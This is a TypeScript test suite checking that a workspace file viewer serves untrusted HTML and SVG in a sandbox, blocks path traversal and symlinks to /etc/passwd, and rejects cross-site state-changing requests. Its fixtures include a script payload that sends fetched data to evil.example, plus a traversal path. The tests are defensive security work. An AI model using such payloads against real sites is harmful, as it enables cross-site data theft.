/** Hostile files of the workspace over HTTP: what a browser is told of them. */
import { mkdirSync, symlinkSync, truncateSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { describe, expect, it } from "@effect/vitest"
import { Effect, Layer, type Scope } from "effect"
import { jailIn } from "../../test/jail.ts"
import { logIn, type Reply, startServer, temporaryFolder } from "../../test/server.ts"
import { fileRoutes } from "../files/fileRoutes.ts"
import { WorkspaceFiles } from "../files/WorkspaceFiles.ts"
import { ok, route } from "../server/Route.ts"
import { fileViewRoutes } from "./fileView.ts"

const hostile = `<script>fetch("/events").then(r => r.text()).then(t => top.location = "https://evil.example/?" + t)</script>`

interface Place {
  readonly workspace: string
  readonly view: (path: string, headers?: Readonly<Record<string, string>>) => Effect.Effect<Reply>
  readonly request: (method: string, path: string, headers?: Readonly<Record<string, string>>) => Effect.Effect<Reply>
}

const onFiles = (use: (place: Place) => Effect.Effect<void, unknown, Scope.Scope>) =>
  Effect.gen(function* () {
    const folder = yield* temporaryFolder
    const workspace = join(folder, "workspace")
    const services = WorkspaceFiles.layer({ workspace }).pipe(
      Layer.provideMerge(Layer.mergeAll(logIn(folder), jailIn(folder, "none")))
    )
    yield* Effect.gen(function* () {
      const changing = route("POST", "/runs", () => Effect.die("a page of another origin got here"))
      const routes = yield* Effect.all([fileRoutes, fileViewRoutes])
      const byGet = route("GET", "/stop", () => Effect.succeed(ok({ success: true })), { changesState: true })
      const { request } = yield* startServer([...routes.flat(), changing, byGet])
      mkdirSync(workspace, { recursive: true })
      yield* use({
        workspace,
        view: (path, headers) => request("GET", `/files/view?path=${encodeURIComponent(path)}`, undefined, headers),
        request: (method, path, headers) => request(method, path, undefined, headers)
      })
    }).pipe(Effect.provide(services))
  }).pipe(Effect.scoped)

const policyOf = ({ headers }: Reply) =>
  new Map((headers.get("content-security-policy") ?? "").split("; ").map((one) => [one.split(" ", 1)[0], one]))

describe("a file as a page", () => {
  it.live("is in a sandbox of no origin, however it is asked for, and can reach nobody", () =>
    onFiles(({ view, workspace }) =>
      Effect.gen(function* () {
        writeFileSync(join(workspace, "evil.html"), hostile)
        writeFileSync(join(workspace, "evil.svg"), `<svg xmlns="http://www.w3.org/2000/svg">${hostile}</svg>`)
        for (const [name, type] of [
          ["evil.html", "text/html; charset=utf-8"],
          ["evil.svg", "image/svg+xml"]
        ] as const) {
          for (const dest of ["iframe", "document", "image", "empty", "object", "script", "worker"]) {
            const reply = yield* view(name, { "sec-fetch-dest": dest })
            const policy = policyOf(reply)
            expect([reply.status, reply.headers.get("content-type")]).toEqual([200, type])
            // The one right that it has; above all neither allow-same-origin nor any way to the top or to a new window.
            expect(policy.get("sandbox")).toBe("sandbox allow-scripts")
            expect(policy.get("default-src")).toBe("default-src 'none'")
            expect(policy.get("connect-src")).toBe("connect-src 'none'")
            expect(policy.get("form-action")).toBe("form-action 'none'")
            expect(policy.get("base-uri")).toBe("base-uri 'none'")
            expect(policy.get("frame-ancestors")).toBe("frame-ancestors 'self'")
            expect(policy.get("img-src")).toBe("img-src data: blob:")
            expect(reply.headers.get("x-frame-options")).toBe("SAMEORIGIN")
            expect(reply.headers.get("x-content-type-options")).toBe("nosniff")
            expect(reply.headers.get("cross-origin-resource-policy")).toBe("same-origin")
            expect(reply.headers.get("referrer-policy")).toBe("no-referrer")
            expect(reply.headers.get("cache-control")).toBe("no-store")
            expect(reply.headers.get("set-cookie")).toBeNull()
            expect(reply.headers.get("access-control-allow-origin")).toBeNull()
          }
        }
      })
    )
  )

  it.live("has our one script before its own, after its doctype; what is no page is as it stands", () =>
    onFiles(({ view, workspace }) =>
      Effect.gen(function* () {
        const textOf = (name: string, page: string | Uint8Array) => {
          writeFileSync(join(workspace, name), page)
          return Effect.map(view(name), ({ bytes }) => Buffer.from(bytes).toString())
        }
        const ours = /<script>\(\(\) => \{[\s\S]*document\.hasFocus\(\)[\s\S]*\}\)\(\)<\/script>/
        const heads = ["<!DOCTYPE html>", "\ufeff<!-- <!doctype x> -->\n<?xml?> <!doctype html\n>", "", "\ufeff"]
        for (const head of heads) {
          const page = yield* textOf("a.html", `${head}<p>é</p>`)
          expect(page.startsWith(`${head}<script>`)).toBe(true)
          expect(page.replace(ours, "")).toBe(`${head}<p>é</p>`)
        }
        // Never read for a doctype for longer than its length.
        const open = "<!---->".repeat(100_000)
        expect((yield* textOf("b.html", open)).replace(ours, "")).toBe(open)
        const other = Buffer.from("\ufeff<p>x</p>", "utf16le")
        expect(yield* textOf("c.html", other)).toBe(other.toString())
        expect(yield* textOf("d.svg", "<svg/>")).toBe("<svg/>")
      })
    )
  )

  it.live("has never a type that our own page would run, whatever its name is", () =>
    onFiles(({ view, workspace }) =>
      Effect.gen(function* () {
        const runs = /script|css|wasm|manifest|xml(?!\+)|xhtml|json/
        for (const name of [
          "a.js",
          "a.mjs",
          "a.css",
          "a.wasm",
          "a.xhtml",
          "a.xml",
          "a.json",
          "a.html.js",
          "a",
          "sw.js"
        ]) {
          writeFileSync(join(workspace, name), "alert(1)")
          const type = (yield* view(name)).headers.get("content-type")
          expect([name, type]).toEqual([name, "text/plain; charset=utf-8"])
          expect(type).not.toMatch(runs)
        }
        writeFileSync(join(workspace, "a.PDF"), "%PDF-1.7")
        expect((yield* view("a.PDF")).headers.get("content-type")).toBe("application/pdf")
        writeFileSync(join(workspace, "a.png"), new Uint8Array([0x89, 0x50]))
        const png = yield* view("a.png")
        expect([png.headers.get("content-type"), [...png.bytes]]).toEqual(["image/png", [0x89, 0x50]])
      })
    )
  )

  it.live("is of the workspace alone, and no larger than a page may be", () =>
    onFiles(({ request, view, workspace }) =>
      Effect.gen(function* () {
        symlinkSync("/etc/passwd", join(workspace, "link.html"))
        writeFileSync(join(workspace, "large.html"), "")
        truncateSync(join(workspace, "large.html"), 16 * 1024 * 1024 + 1)
        mkdirSync(join(workspace, "folder.html"))
        expect((yield* view("link.html")).status).toBe(403)
        expect((yield* view("../../../etc/passwd")).status).toBe(403)
        expect((yield* view("missing.html")).status).toBe(404)
        expect((yield* view("folder.html")).status).toBe(400)
        expect((yield* request("GET", "/files/view")).status).toBe(422)
        const large = yield* view("large.html")
        expect([large.status, large.body]).toMatchObject([413, { error: expect.stringContaining("16 MiB at most") }])
        // A refusal is no page of the workspace: it has the policy of the rest.
        expect(policyOf(large).has("sandbox")).toBe(false)
      })
    )
  )

  it.live("changes nothing in our name: its origin is null", () =>
    onFiles(({ request }) =>
      Effect.gen(function* () {
        const site = { origin: "null", "sec-fetch-site": "cross-site" }
        expect((yield* request("POST", "/runs", site)).status).toBe(403)
        expect((yield* request("DELETE", "/files?path=a", site)).status).toBe(403)
        expect((yield* request("DELETE", "/files?path=a", { "sec-fetch-site": "cross-site" })).status).toBe(403)
      })
    )
  )

  it.live("nor does a link or an image in a text: what changes something a page does by its script", () =>
    onFiles(({ request }) =>
      Effect.gen(function* () {
        const asked = (dest: string) =>
          request("GET", "/stop", { "sec-fetch-site": "same-origin", "sec-fetch-dest": dest })
        for (const dest of ["image", "document", "iframe", "script", "style", "object", "track"]) {
          expect([dest, (yield* asked(dest)).status]).toEqual([dest, 403])
        }
        expect((yield* asked("empty")).status).toBe(200)
        expect((yield* request("GET", "/stop")).status).toBe(200)
        expect(
          (yield* request("GET", "/stop", { "sec-fetch-site": "none", "sec-fetch-dest": "document" })).status
        ).toBe(200)
      })
    )
  )

  it.live("is downloaded as bytes of no type", () =>
    onFiles(({ request, workspace }) =>
      Effect.gen(function* () {
        writeFileSync(join(workspace, "evil.html"), hostile)
        const { headers } = yield* request("GET", "/files/download?path=evil.html")
        expect(headers.get("content-type")).toBe("application/octet-stream")
        expect(headers.get("content-disposition")).toBe("attachment; filename*=UTF-8''evil.html")
        expect(headers.get("x-content-type-options")).toBe("nosniff")
      })
    )
  )
})
